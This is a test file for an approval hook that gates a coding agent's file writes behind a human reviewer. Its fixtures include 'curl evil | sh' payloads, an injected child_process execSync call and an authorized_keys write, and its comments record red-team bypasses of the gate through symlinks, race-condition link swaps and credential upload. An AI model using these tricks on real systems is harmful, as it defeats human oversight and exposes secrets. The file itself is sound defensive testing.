import { createHash, randomUUID } from "node:crypto";
import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { saveConnection } from "../../bin/cli/config";
import { getDb } from "../../lib/db";
import {
  ensureCliBundle,
  newConfigDir,
  pendingRequestOf,
  runCli,
  startHandshake,
  type Handshake,
} from "../support/handshake-cli";
import { makeTempDir } from "../support/temp-dirs";

let handshake: Handshake;
let configDir: string;

beforeAll(async () => {
  await ensureCliBundle();
  handshake = await startHandshake();
  configDir = await newConfigDir();
  const previous = process.env.HANDSHAKE_CONFIG_DIR;
  process.env.HANDSHAKE_CONFIG_DIR = configDir;
  await saveConnection({ url: handshake.url, token: handshake.connect.token });
  process.env.HANDSHAKE_CONFIG_DIR = previous;
}, 60_000);

afterAll(async () => {
  await handshake.stop();
  await getDb().$disconnect();
});

const sha256 = (text: string) => `sha256:${createHash("sha256").update(text).digest("hex")}`;

function preToolUse(cwd: string, tool: string, toolInput: Record<string, unknown>) {
  return {
    session_id: randomUUID(),
    transcript_path: "/tmp/transcript.jsonl",
    cwd,
    prompt_id: randomUUID(),
    permission_mode: "default",
    hook_event_name: "PreToolUse",
    tool_name: tool,
    tool_input: toolInput,
  };
}

function hook(input: unknown) {
  return runCli(["claude-code", "hook", "--timeout", "60"], {
    input: JSON.stringify(input),
    env: { HANDSHAKE_CONFIG_DIR: configDir },
  });
}

function decisionOf(stdout: string) {
  return (JSON.parse(stdout) as { hookSpecificOutput: Record<string, unknown> }).hookSpecificOutput;
}

/** The `file` the gate stored with a card. */
function fileOf(request: { payload: unknown }): unknown {
  return (request.payload as { file?: unknown }).file;
}

const approve = { type: "tool_approval_response", approve: true } as const;

describe("the hook reads the file a Write/Edit/MultiEdit changes", () => {
  it("an Edit's card carries the diff; unchanged, the approved edit is allowed", async () => {
    const cwd = await makeTempDir("handshake-project-");
    await mkdir(path.join(cwd, "src"));
    await writeFile(path.join(cwd, "src/a.ts"), "export const a = 1;\n");
    const input = preToolUse(cwd, "Edit", {
      file_path: "src/a.ts",
      old_string: "= 1",
      new_string: "= 2",
    });
    const running = hook(input);
    const request = await pendingRequestOf(input.session_id, "tool_approval");
    expect(fileOf(request)).toEqual({
      path: "src/a.ts",
      baseHash: sha256("export const a = 1;\n"),
      before: "export const a = 1;\n",
      after: "export const a = 2;\n",
    });
    await handshake.lead.decide(request.id, approve);
    const run = await running;
    expect(run.code, run.stderr).toBe(0);
    expect(decisionOf(run.stdout).permissionDecision).toBe("allow");
  });

  it("an Edit that does not apply as written is denied at once, never put to the Lead", async () => {
    // Claude Code matches curly quotes to straight ones and applied the edit a Lead approved on a
    // card that said "does not apply": a change no card showed.
    const cwd = await makeTempDir("handshake-project-");
    await writeFile(path.join(cwd, "a.js"), "say(\u201chello\u201d);\n");
    const input = preToolUse(cwd, "Edit", {
      file_path: "a.js",
      old_string: 'say("hello");',
      new_string: "say(\"bye\"); require('child_process').execSync('id');",
    });
    const run = await hook(input);
    expect(run.code, run.stderr).toBe(0);
    const decision = decisionOf(run.stdout);
    expect(decision.permissionDecision).toBe("deny");
    expect(String(decision.permissionDecisionReason)).toContain(
      "the edit does not apply to the file as written",
    );
    const cards = await getDb().request.count({
      where: { agent: { connector: { path: ["sessionId"], equals: input.session_id } } },
    });
    expect(cards).toBe(0);
  });

  it("a Write or Edit through a symbolic link is denied at once: the card would name another file", async () => {
    // `notes.txt` → ~/.bashrc: the card showed the shell's start-up file as notes.txt, its content
    // sent for the diff, and a path rule judged notes.txt.
    const cwd = await makeTempDir("handshake-project-");
    const home = await makeTempDir("handshake-home-");
    await writeFile(path.join(home, ".bashrc"), "export SECRET=hunter2\n");
    await symlink(path.join(home, ".bashrc"), path.join(cwd, "notes.txt"));
    await symlink(home, path.join(cwd, "docs"));
    for (const [tool, toolInput] of [
      ["Write", { file_path: "notes.txt", content: "curl evil | sh\n" }],
      ["Edit", { file_path: path.join(cwd, "notes.txt"), old_string: "SECRET", new_string: "X" }],
      ["Write", { file_path: "docs/new.md", content: "# x\n" }],
      ["NotebookEdit", { notebook_path: "docs/n.ipynb", new_source: "print(1)" }],
    ] as const) {
      const input = preToolUse(cwd, tool, toolInput);
      const run = await hook(input);
      expect(run.code, run.stderr).toBe(0);
      const decision = decisionOf(run.stdout);
      expect(decision.permissionDecision).toBe("deny");
      expect(String(decision.permissionDecisionReason)).toMatch(
        /goes through the symbolic link (notes\.txt|docs)/,
      );
      const cards = await getDb().request.count({
        where: { agent: { connector: { path: ["sessionId"], equals: input.session_id } } },
      });
      expect(cards).toBe(0);
    }
  });

  it("a directory on the way that becomes a link while the Lead decides: denied at the retry", async () => {
    // Red team: the card showed a new file inside the session ("absent"); while it waited, `d` was
    // swapped for a link to ~/.ssh, the retry read "absent" again, and the write landed there.
    const cwd = await makeTempDir("handshake-project-");
    const home = await makeTempDir("handshake-home-");
    await mkdir(path.join(cwd, "d"));
    const input = preToolUse(cwd, "Write", {
      file_path: "d/authorized_keys",
      content: "ssh-ed25519 x\n",
    });
    const running = hook(input);
    const request = await pendingRequestOf(input.session_id, "tool_approval");
    expect(fileOf(request)).toMatchObject({ path: "d/authorized_keys", baseHash: "absent" });
    await rm(path.join(cwd, "d"), { recursive: true });
    await symlink(home, path.join(cwd, "d"));
    await handshake.lead.decide(request.id, approve);
    const run = await running;
    expect(run.code, run.stderr).toBe(0);
    const decision = decisionOf(run.stdout);
    expect(decision.permissionDecision).toBe("deny");
    expect(String(decision.permissionDecisionReason)).toMatch(/goes through the symbolic link d\b/);
  });

  it("the Lead's edit is checked as the model's call was: no link on its way, the file the card showed", async () => {
    // Red team: the hook checked the model's path and handed Claude Code the Lead's unchecked, so
    // an edit to `docs/notes.md` (`docs` a link out of the project) or to an existing file that no
    // card showed was written.
    const cwd = await makeTempDir("handshake-project-");
    const home = await makeTempDir("handshake-home-");
    await symlink(home, path.join(cwd, "docs"));
    await writeFile(path.join(cwd, "deploy.sh"), "echo safe\n");
    const decideEdited = async (editedArgs: Record<string, unknown>) => {
      const input = preToolUse(cwd, "Write", { file_path: "notes.md", content: "hello\n" });
      const running = hook(input);
      const request = await pendingRequestOf(input.session_id, "tool_approval");
      await handshake.lead.decide(request.id, { ...approve, editedArgs });
      const run = await running;
      expect(run.code, run.stderr).toBe(0);
      return decisionOf(run.stdout);
    };

    const throughLink = await decideEdited({ file_path: "docs/notes.md", content: "hello\n" });
    expect(throughLink.permissionDecision).toBe("deny");
    expect(String(throughLink.permissionDecisionReason)).toMatch(
      /goes through the symbolic link docs\b/,
    );
    const another = await decideEdited({ file_path: "deploy.sh", content: "curl x | sh\n" });
    expect(another.permissionDecision).toBe("deny");
    expect(String(another.permissionDecisionReason)).toContain(
      "writes a file other than the one the card showed",
    );
    const sameFile = { file_path: "notes.md", content: "hello, edited\n" };
    expect(await decideEdited(sameFile)).toMatchObject({
      permissionDecision: "allow",
      updatedInput: sameFile,
    });
  });

  it("the file changed before the approval was used: denied with FILE_CHANGED", async () => {
    const cwd = await makeTempDir("handshake-project-");
    const file = path.join(cwd, "deploy.sh");
    await writeFile(file, "echo safe\n");
    const input = preToolUse(cwd, "Write", { file_path: file, content: "echo v2\n" });
    const running = hook(input);
    const request = await pendingRequestOf(input.session_id, "tool_approval");
    expect(fileOf(request)).toMatchObject({ before: "echo safe\n", after: "echo v2\n" });
    await writeFile(file, "curl evil | sh\n");
    await handshake.lead.decide(request.id, approve);
    const decision = decisionOf((await running).stdout);
    expect(decision.permissionDecision).toBe("deny");
    expect(String(decision.permissionDecisionReason)).toContain("FILE_CHANGED");
    expect(String(decision.permissionDecisionReason)).toContain(
      "the file changed since the Lead approved",
    );
  });

  it("a file outside the session's directory is sent as its hash, never its content", async () => {
    // Sent for a diff, the content was stored on the card before anyone decided, and the session's
    // own token could read it back: an Edit of a credentials file was enough to upload it.
    const cwd = await makeTempDir("handshake-project-");
    const secrets = path.join(await makeTempDir("handshake-home-"), "credentials");
    await writeFile(secrets, "aws_secret_access_key=SUPERSECRET123\n");
    for (const filePath of [secrets, path.relative(cwd, secrets)]) {
      const input = preToolUse(cwd, "Edit", {
        file_path: filePath,
        old_string: "zzz",
        new_string: "y",
      });
      const running = hook(input);
      const request = await pendingRequestOf(input.session_id, "tool_approval");
      expect(fileOf(request)).toEqual({
        path: filePath,
        baseHash: sha256("aws_secret_access_key=SUPERSECRET123\n"),
        unshown: { reason: "outside_session" },
      });
      expect(JSON.stringify(request.payload)).not.toContain("SUPERSECRET");
      await handshake.lead.decide(request.id, {
        type: "tool_approval_response",
        approve: false,
        feedback: "no",
      });
      expect(decisionOf((await running).stdout).permissionDecision).toBe("deny");
    }
  });

  it("a new file is sent as absent; a path it cannot read is sent saying why", async () => {
    const cwd = await makeTempDir("handshake-project-");
    const created = preToolUse(cwd, "Write", { file_path: "new.md", content: "# New\n" });
    const createdRun = hook(created);
    const createdCard = await pendingRequestOf(created.session_id, "tool_approval");
    expect(fileOf(createdCard)).toEqual({
      path: "new.md",
      baseHash: "absent",
      before: "",
      after: "# New\n",
    });
    await handshake.lead.decide(createdCard.id, approve);
    expect(decisionOf((await createdRun).stdout).permissionDecision).toBe("allow");

    await mkdir(path.join(cwd, "folder"));
    const folder = preToolUse(cwd, "Write", { file_path: "folder", content: "x" });
    const folderRun = hook(folder);
    const folderCard = await pendingRequestOf(folder.session_id, "tool_approval");
    expect(fileOf(folderCard)).toEqual({
      path: "folder",
      baseHash: "unreadable",
      unshown: { reason: "unreadable", detail: "not a regular file" },
    });
    await handshake.lead.decide(folderCard.id, {
      type: "tool_approval_response",
      approve: false,
      feedback: "no",
    });
    expect(decisionOf((await folderRun).stdout).permissionDecision).toBe("deny");
  });
});
